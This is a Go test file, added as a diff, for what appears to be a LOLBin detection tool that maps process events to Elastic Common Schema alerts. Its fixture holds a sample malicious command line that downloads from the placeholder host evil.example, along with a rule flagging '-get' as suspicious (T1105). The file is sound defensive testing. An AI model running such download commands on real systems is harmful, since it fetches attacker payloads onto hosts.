@@ -0,0 +1,200 @@
+package main
+
+import (
+	"encoding/json"
+	"fmt"
+	"reflect"
+	"strings"
+	"testing"
+	"time"
+)
+
+// ecsDocument renders an event in ECS and decodes it back into nested maps
+func ecsDocument(t *testing.T, event ProcessEvent) map[string]interface{} {
+	t.Helper()
+	raw, err := json.Marshal(toECS(event))
+	if err != nil {
+		t.Fatal(err)
+	}
+	var doc map[string]interface{}
+	if err := json.Unmarshal(raw, &doc); err != nil {
+		t.Fatal(err)
+	}
+	return doc
+}
+
+// ecsField looks up a dotted ECS field name through the nested objects,
+// reporting false when any level is missing
+func ecsField(doc map[string]interface{}, name string) (interface{}, bool) {
+	var value interface{} = doc
+	for _, key := range strings.Split(name, ".") {
+		object, ok := value.(map[string]interface{})
+		if !ok {
+			return nil, false
+		}
+		if value, ok = object[key]; !ok {
+			return nil, false
+		}
+	}
+	return value, true
+}
+
+// checkNested fails the test for keys with dots in them, which ECS spells
+// as nested objects
+func checkNested(t *testing.T, value interface{}, path string) {
+	t.Helper()
+	switch v := value.(type) {
+	case map[string]interface{}:
+		for key, child := range v {
+			if strings.Contains(key, ".") {
+				t.Errorf("flattened key %q under %q", key, path)
+			}
+			checkNested(t, child, path+"."+key)
+		}
+	case []interface{}:
+		for _, child := range v {
+			checkNested(t, child, path)
+		}
+	}
+}
+
+func TestECSMapping(t *testing.T) {
+	activateRulesFile(t, RulesFile{LOLBins: []LOLBin{
+		{Name: "tool.exe", SuspiciousArgs: []string{"-get"}, Severity: SeverityHigh, MITRE: []string{"T1105"}},
+	}})
+	start := time.Date(2026, 3, 1, 9, 30, 0, 0, time.UTC)
+	end := start.Add(2 * time.Second)
+	exitCode := uint32(1)
+	event := ProcessEvent{
+		ID:               42,
+		Timestamp:        start,
+		Host:             "WS01",
+		AgentID:          "agent-1",
+		ProcessID:        1234,
+		ParentID:         1000,
+		ParentImage:      `C:\Windows\explorer.exe`,
+		ExecutablePath:   `C:\Tools\tool.exe`,
+		OriginalFilename: "tool.exe",
+		CommandLine:      `tool.exe -get "http://evil.example/a b.exe" 203.0.113.5`,
+		User:             `CORP\alice`,
+		Rule:             "tool.exe",
+		RulesVersion:     "abc123",
+		Suspicious:       true,
+		Severity:         SeverityHigh,
+		Confidence:       80,
+		Reason:           "Suspicious download",
+		Tags:             []string{"download"},
+		IOCs:             []IOC{{IOCURL, "http://evil.example/a b.exe"}, {IOCDomain, "evil.example"}, {IOCIPv4, "203.0.113.5"}},
+		ChainID:          "chain-1",
+		ExitTime:         &end,
+		ExitCode:         &exitCode,
+		Lifetime:         Duration(2 * time.Second),
+	}
+	doc := ecsDocument(t, event)
+	checkNested(t, doc, "")
+
+	want := map[string]interface{}{
+		"@timestamp":                    "2026-03-01T09:30:00Z",
+		"ecs.version":                   ecsVersion,
+		"event.id":                      "42",
+		"event.kind":                    "alert",
+		"event.category":                []interface{}{"process"},
+		"event.type":                    []interface{}{"start", "end"},
+		"event.action":                  "process-started",
+		"event.severity":                float64(SeverityHigh),
+		"event.risk_score":              float64(80),
+		"event.reason":                  "Suspicious download",
+		"event.start":                   "2026-03-01T09:30:00Z",
+		"event.end":                     "2026-03-01T09:30:02Z",
+		"event.duration":                float64(2 * time.Second),
+		"host.hostname":                 "WS01",
+		"agent.id":                      "agent-1",
+		"agent.type":                    ecsRuleset,
+		"process.pid":                   float64(1234),
+		"process.name":                  "tool.exe",
+		"process.executable":            `C:\Tools\tool.exe`,
+		"process.command_line":          event.CommandLine,
+		"process.args":                  []interface{}{"tool.exe", "-get", "http://evil.example/a b.exe", "203.0.113.5"},
+		"process.exit_code":             float64(1),
+		"process.end":                   "2026-03-01T09:30:02Z",
+		"process.pe.original_file_name": "tool.exe",
+		"process.parent.pid":            float64(1000),
+		"process.parent.name":           "explorer.exe",
+		"process.parent.executable":     `C:\Windows\explorer.exe`,
+		"user.name":                     "alice",
+		"user.domain":                   "CORP",
+		"related.user":                  []interface{}{"alice"},
+		"related.hosts":                 []interface{}{"evil.example"},
+		"related.ip":                    []interface{}{"203.0.113.5"},
+		"rule.name":                     "tool.exe",
+		"rule.ruleset":                  ecsRuleset,
+		"rule.version":                  "abc123",
+		"rule.category":                 "download",
+		"threat.framework":              "MITRE ATT&CK",
+		"threat.tactic.name":            []interface{}{"download"},
+		"threat.technique.id":           []interface{}{"T1105"},
+		"lolbin.suspicious":             true,
+		"lolbin.chain_id":               "chain-1",
+		"tags":                          []interface{}{"download"},
+		"lolbin.severity":               "high",
+		"rule.description":              "Suspicious download",
+		"process.start":                 "2026-03-01T09:30:00Z",
+	}
+	for name, value := range want {
+		got, ok := ecsField(doc, name)
+		if !ok || !reflect.DeepEqual(got, value) {
+			t.Errorf("%s = %#v, want %#v", name, got, value)
+		}
+	}
+
+	enrichments, _ := ecsField(doc, "threat.enrichments")
+	var indicators []string
+	for _, enrichment := range enrichments.([]interface{}) {
+		typ, _ := ecsField(enrichment.(map[string]interface{}), "indicator.type")
+		description, _ := ecsField(enrichment.(map[string]interface{}), "indicator.description")
+		indicators = append(indicators, fmt.Sprintf("%v=%v", typ, description))
+	}
+	if want := []string{"url=http://evil.example/a b.exe", "domain-name=evil.example", "ipv4-addr=203.0.113.5"}; !reflect.DeepEqual(indicators, want) {
+		t.Errorf("threat indicators %q, want %q", indicators, want)
+	}
+}
+
+func TestECSMappingBenign(t *testing.T) {
+	doc := ecsDocument(t, ProcessEvent{
+		ID:             7,
+		Timestamp:      time.Date(2026, 3, 1, 9, 30, 0, 0, time.UTC),
+		ProcessID:      10,
+		ExecutablePath: `C:\Windows\System32\notepad.exe`,
+		CommandLine:    "notepad.exe",
+		User:           "bob",
+	})
+	checkNested(t, doc, "")
+	for name, value := range map[string]interface{}{
+		"event.kind":     "event",
+		"event.type":     []interface{}{"start"},
+		"event.severity": float64(0),
+		"user.name":      "bob",
+		"related.user":   []interface{}{"bob"},
+	} {
+		if got, ok := ecsField(doc, name); !ok || !reflect.DeepEqual(got, value) {
+			t.Errorf("%s = %#v, want %#v", name, got, value)
+		}
+	}
+	for _, name := range []string{"user.domain", "rule", "threat", "agent", "process.pe", "process.exit_code", "event.end", "event.risk_score", "related.ip", "tags"} {
+		if got, ok := ecsField(doc, name); ok {
+			t.Errorf("%s = %v, want it absent", name, got)
+		}
+	}
+
+	composite := ecsDocument(t, ProcessEvent{Kind: "composite", Timestamp: time.Now(), Suspicious: true})
+	for name, value := range map[string]interface{}{
+		"event.kind":     "alert",
+		"event.category": []interface{}{"intrusion_detection"},
+		"event.type":     []interface{}{"info"},
+		"event.action":   "correlation",
+	} {
+		if got, ok := ecsField(composite, name); !ok || !reflect.DeepEqual(got, value) {
+			t.Errorf("composite %s = %#v, want %#v", name, got, value)
+		}
+	}
+}